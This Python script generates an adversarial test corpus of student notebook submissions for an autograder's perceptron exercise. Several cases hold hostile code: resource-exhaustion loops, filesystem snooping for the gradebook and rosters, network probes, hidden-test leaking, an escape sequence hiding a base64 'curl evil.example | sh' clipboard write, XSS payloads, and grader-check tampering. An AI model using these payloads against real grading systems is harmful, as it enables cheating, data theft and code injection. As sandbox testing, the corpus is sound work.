"""Write the submission corpus of exercise 05 (run from the repository root; the output is committed).

    python tests/corpus/05_perceptron/make_corpus.py

Each case is a notebook (or a raw file) that a student could really hand in, built from the
released exercise (``exercises/05_perceptron.ipynb``) and the answers in ``solutions/``:
``uploads/`` is what an LMS export holds (Moodle folders, Canvas file names, Colab copies),
``exchange/<student>/`` what nbgrader's exchange leaves in ``submitted/``. ``expected.yml``
(written by hand) says what grading each one must give.
"""
from __future__ import annotations

import copy
import json
import shutil
import zipfile
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
STEM = "05_perceptron"


def released():
    return nbformat.read(str(ROOT / "exercises" / f"{STEM}.ipynb"), as_version=4)


def answers() -> dict:
    sol = nbformat.read(str(ROOT / "solutions" / f"{STEM}.ipynb"), as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: "\n".join(
        ln for ln in c.source.splitlines() if "### BEGIN SOLUTION" not in ln and "### END SOLUTION" not in ln)
        for c in sol.cells if c.metadata.get("nbgrader", {}).get("solution")}


def solved(edit: dict | None = None):
    """The released exercise answered correctly; ``edit`` maps a grade_id to f(source) → source."""
    nb, ans = released(), answers()
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in ans:
            cell.source = ans[gid]
        if gid in (edit or {}):
            cell.source = edit[gid](cell.source)
    return nb


def cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def write(nb, path: Path) -> None:
    """Byte for byte what we built: no validation, which would renumber duplicated ids at random."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb, ensure_ascii=False, indent=1, sort_keys=True) + "\n", encoding="utf-8")


def main() -> None:
    for d in ("uploads", "exchange"):
        shutil.rmtree(HERE / d, ignore_errors=True)
    up, ex = HERE / "uploads", HERE / "exchange"

    # --- ordinary work, under the names LMS exports give it
    write(solved(), up / "Minjun Kim_1001_assignsubmission_file_" / f"{STEM}.ipynb")       # s01, Moodle folder
    write(released(), up / f"s02_20002_9002_{STEM}.ipynb")                                      # s02, Canvas name, untouched
    write(solved({"xor": lambda s: "def xor(x):\n    return perceptron(x, torch.tensor([0.5, 0.5]), 0.2)  # OR, not XOR\n"}),
          up / "김서연_1003_assignsubmission_file_" / f"Copy of {STEM}.ipynb")                  # s03, partly wrong (newest)
    write(released(), up / "김서연_1003_assignsubmission_file_" / f"{STEM}.ipynb")             # s03, an older, empty upload

    # --- runaway code
    write(solved({"leaky": lambda s: "while True:\n    pass\n\n" + s}), up / f"s04_{STEM}.ipynb")
    write(solved({"leaky": lambda s: "import time\nwhile True:\n    try:\n        time.sleep(1)\n"
                                     "    except BaseException:\n        pass\n\n" + s}), up / f"s05_{STEM}.ipynb")
    write(solved({"nand": lambda s: "chunks = []\nwhile True:\n    chunks.append(bytearray(64 * 2**20))\n\n" + s}),
          up / f"s06_{STEM}.ipynb")
    write(solved({"sigmoid": lambda s: s + "\n\nimport sys\nsys.exit('done')\n"}), up / f"s07_{STEM}.ipynb")
    write(solved({"xor": lambda s: s + "\n\nimport os\nos._exit(0)\n"}), up / f"s08_{STEM}.ipynb")
    write(solved({"leaky": lambda s: "import ctypes\nctypes.string_at(0)\n\n" + s}), up / f"s09_{STEM}.ipynb")
    write(solved({"perceptron": lambda s: "for _ in range(3000):\n    print('x' * 1_000_000)\n\n" + s}),
          up / f"s10_{STEM}.ipynb")
    write(solved({"perceptron": lambda s: s.replace("return (x @ w - theta > 0).float()",
                                                    "x = torch.tensor(x)  # PyTorch warns on stderr\n"
                                                    "    return (x @ w - theta > 0).float()")}),
          up / f"s11_{STEM}.ipynb")

    # --- edited notebooks
    nb = solved()
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in ("test_nand", "test_xor")]
    write(nb, up / f"s12_{STEM}.ipynb")
    nb = solved({"perceptron": lambda s: s.replace("> 0", ">= 0")})
    cell(nb, "test_perceptron").source = "pass  # my function is fine, trust me"
    write(nb, up / f"s13_{STEM}.ipynb")
    nb = solved()
    for gid, kind in (("test_leaky", "markdown"), ("test_sigmoid", "raw")):
        c = cell(nb, gid)
        c.cell_type = kind
        c.pop("outputs", None)
        c.pop("execution_count", None)
    write(nb, up / f"s14_{STEM}.ipynb")
    nb = solved()
    cell(nb, "task1").source = "## 문제 1 — 이 설명은 제가 고쳤습니다 · I rewrote this task"
    cell(nb, "setup").source = cell(nb, "setup").source.replace("[1.0, 1.0]])", "[1.0, 1.0], [2.0, 2.0]])")
    write(nb, up / f"s15_{STEM}.ipynb")
    nb = solved()
    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "test_perceptron")
    nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))                     # a copied test cell: same id, same grade_id
    j = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "leaky")
    first, second = copy.deepcopy(nb.cells[j]), copy.deepcopy(nb.cells[j])  # a split answer cell: both halves keep both
    src = nb.cells[j].source
    k = src.index("def leaky_relu_grad")
    first.source, second.source = src[:k].rstrip() + "\n", src[k:]
    nb.cells[j:j + 1] = [first, second]
    write(nb, up / f"s16_{STEM}.ipynb")

    # --- what Colab does: all metadata replaced, a "Copy of" name
    nb = solved()
    nb.metadata = {"colab": {"provenance": [], "name": f"Copy of {STEM}.ipynb"},
                   "kernelspec": {"name": "python3", "display_name": "Python 3"}, "language_info": {"name": "python"}}
    for n, c in enumerate(nb.cells):
        c.metadata = {"id": f"colab{n:04d}x"}
        c["id"] = f"colab{n:04d}x"
    write(nb, up / "s17@school.example - Copy of 05_perceptron.ipynb")
    # a notebook that is not this exercise at all (metadata gone, nothing matches)
    other = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('my own scratch work')"),
                                            nbformat.v4.new_markdown_cell("# Untitled")])
    write(other, up / "s18" / "Untitled.ipynb")

    # --- broken files
    text = json.dumps(solved(), ensure_ascii=False, indent=1, sort_keys=True)
    (up / f"s19_{STEM}.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")   # cut off mid-upload
    (up / f"s20_{STEM}.ipynb").write_bytes(b"")                                        # empty

    # --- trying to see what it must not
    snoop = '''import glob, os
found = []
for path in ["../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "/srv/nbgrader/exchange",
             "../../../source/05_perceptron/05_perceptron.ipynb", "/proc/1/root/gradebook.db"]:
    if os.path.exists(path):
        found.append(path)
seen = 0
for top in ["/tmp", "/home", "/root", "/work", "/srv", "/var", "/opt", "/mnt", "/media", "/run", "/dev/shm", ".."]:
    for dirpath, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "__pycache__", "share", "include")]
        seen += len(files)
        found += [os.path.join(dirpath, f) for f in files
                  if f.endswith(".ipynb") or f in ("gradebook.db", "timestamp.txt", "nbgrader_config.py", "roster.csv",
                                                    "manifest.json", "dlbook_course.json")]
        if seen > 50_000:
            break
print("SNOOP:", found or "nothing")
'''
    write(solved({"perceptron": lambda s: snoop + "\n\n" + s}), up / f"s21_{STEM}.ipynb")
    net = '''import socket, urllib.request
results = []
for host, port in [("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 5432), ("127.0.0.1", 8888), ("10.0.0.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        results.append(f"{host}:{port} OPEN")
    except OSError:
        pass
try:
    urllib.request.urlopen("http://example.com", timeout=3)
    results.append("http OPEN")
except Exception:
    pass
print("NET:", results or "blocked")
'''
    write(solved({"nand": lambda s: net + "\n\n" + s}), up / f"s22_{STEM}.ipynb")

    # --- whose upload it is: the part of the path the LMS wrote decides (s26–s29)
    write(released(), up / "Jisoo Baek_1026_assignsubmission_file_" / "minho.nam@school.example.ipynb")  # s26 names s27
    write(solved(), up / "Minho Nam_1027_assignsubmission_file_" / f"{STEM}.ipynb")                       # s27, the victim
    write(released(), up / f"s28_1028_9028_Kyungmin Ha {STEM}.ipynb")                                     # s28 names s29
    write(solved(), up / f"s29_1029_9029_{STEM}.ipynb")                                                   # s29, the victim
    # --- notebooks the intake once crashed on, stopping the batch (s30, s31)
    nb = solved()
    cell(nb, "test_perceptron").metadata["nbgrader"]["grade_id"] = ["test_perceptron"]
    write(nb, up / f"s30_{STEM}.ipynb")
    nb = solved()
    nb.metadata["deep"] = "__DEEP__"
    text = json.dumps(nb, ensure_ascii=False, indent=1, sort_keys=True)
    (up / f"s31_{STEM}.ipynb").write_text(text.replace('"__DEEP__"', "[" * 100_000 + "]" * 100_000) + "\n",
                                          encoding="utf-8")
    # --- a zip inside the LMS zip (s32)
    with zipfile.ZipFile(up / "s32_my_homework.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo(f"homework/{STEM}.ipynb", date_time=(2026, 3, 1, 12, 0, 0)),
                    json.dumps(solved(), ensure_ascii=False, indent=1, sort_keys=True) + "\n")

    # --- what a kernel may not write, and what must not leak or run in the feedback (s40–s45)
    fill = """import os, sys
ipc = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # the grader's socket directory
written = 0
for i in range(20):
    try:
        with open(os.path.join(ipc, f"fill-{i}"), "wb") as f:
            f.write(b"\\0" * (1 << 20))
        written += 1
    except OSError:
        pass
print("IPC:", "blocked" if written == 0 else f"{written} MiB written")
"""
    write(solved({"nand": lambda s: fill + "\n" + s}), up / f"s40_{STEM}.ipynb")
    write(solved({"leaky": lambda s: "import torch.nn.functional as F  # only to compare with mine\n\n" + s
                   + "\n\nt = torch.linspace(-2, 2, 9)\nprint('same as F:', torch.allclose(leaky_relu(t, 0.1), F.leaky_relu(t, 0.1)))\n"}),
          up / f"s41_{STEM}.ipynb")
    show = """_seen = set()


def _show(transform):
    src = get_ipython().user_ns["In"][-1]  # the cell running now: the test, hidden part included
    if src not in _seen:
        _seen.add(src)
        transform(src)


"""
    write(solved({"perceptron": lambda s: show + s.replace("def perceptron(x, w, theta):\n",
                                                           "def perceptron(x, w, theta):\n"
                                                           "    _show(lambda src: print(src.replace(' ', '\\t')))\n")}),
          up / f"s42_{STEM}.ipynb")                                   # hidden tests printed with tabs for spaces
    write(solved({"xor": lambda s: "from IPython.display import Markdown, display\n" + show + s.replace(
        "def xor(x):\n", "def xor(x):\n    _show(lambda src: display(Markdown(src.replace('e', '&#101;'))))\n")}),
          up / f"s43_{STEM}.ipynb")                                   # re-encoded as HTML entities: the check's job
    write(solved({"perceptron": lambda s: "def perceptron(x, w, theta):\n    raise RuntimeError("
                  "'\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x9b31mboom\\u202e')\n"}),
          up / f"s44_{STEM}.ipynb")                                   # clear screen, clipboard write (OSC 52)
    active = """
from IPython.display import HTML, Javascript, display
display(HTML("<b>bold</b><script>document.title='PWNED-h1'</script><img src=x onerror=\\"document.title='PWNED-h2'\\">"))
display(Javascript("document.title='PWNED-js'"))
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='PWNED-svg'\\">"
                          "<script>document.title='PWNED-svg2'</script></svg>"}, raw=True)
"""
    nb = solved({"sigmoid": lambda s: s + "\n" + active})
    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "sigmoid")
    nb.cells.insert(i + 1, nbformat.v4.new_markdown_cell(
        "My notes <script>document.title='PWNED-md'</script><img src=x onerror=\"document.title='PWNED-md2'\"> "
        "[click](javascript:alert('PWNED-md3'))"))
    nb.cells[i + 1]["id"] = "my-notes"
    write(nb, up / f"s45_{STEM}.ipynb")

    # --- what the kit restores is said; checks rebound are flagged; look-alike answers listed (s46–s50)
    nb = solved()
    cell(nb, "test_perceptron").metadata["nbgrader"]["points"] = 100
    cell(nb, "test_nand").metadata["nbgrader"]["grade"] = False
    write(nb, up / f"s46_{STEM}.ipynb")
    write(solved({"perceptron": lambda s: "expect_close = lambda *args, **kwargs: None  # my tests always pass\n"
                                          "import dlbook.check\ndlbook.check.call = lambda f, *a, **k: f(*a, **k)\n\n"
                                          + s.replace("> 0", ">= 0")}), up / f"s47_{STEM}.ipynb")
    mine = "def perceptron(x, w, theta):\n    z = x @ w\n    return (z - theta > 0).float()\n"
    write(solved({"perceptron": lambda s: mine}), up / f"s48_{STEM}.ipynb")
    write(solved({"perceptron": lambda s: "def perceptron(inputs, weights, threshold):\n    # weighted sum\n"
                                          "    s   =   inputs @ weights\n    return (s - threshold > 0).float()\n"}),
          up / f"s49_{STEM}.ipynb")                                   # s48's answer, names and spacing changed
    write(solved({"perceptron": lambda s: mine}), up / f"s50_{STEM}.ipynb")  # s48's answer as it is

    # --- uploads no student can be matched to
    write(solved(), up / "mystery_upload.ipynb")

    # --- what nbgrader's exchange leaves in submitted/<student>/05_perceptron/
    write(solved(), ex / "s23" / f"{STEM}.ipynb")
    (ex / "s23" / "torch.py").write_text("raise ImportError('a shadowing torch.py was imported')\n", encoding="utf-8")
    write(solved(), ex / "s24" / f"{STEM} (1).ipynb")
    print(f"wrote {sum(1 for _ in up.rglob('*') if _.is_file())} uploads and "
          f"{sum(1 for _ in ex.rglob('*') if _.is_file())} exchange files under {HERE}")


if __name__ == "__main__":
    main()
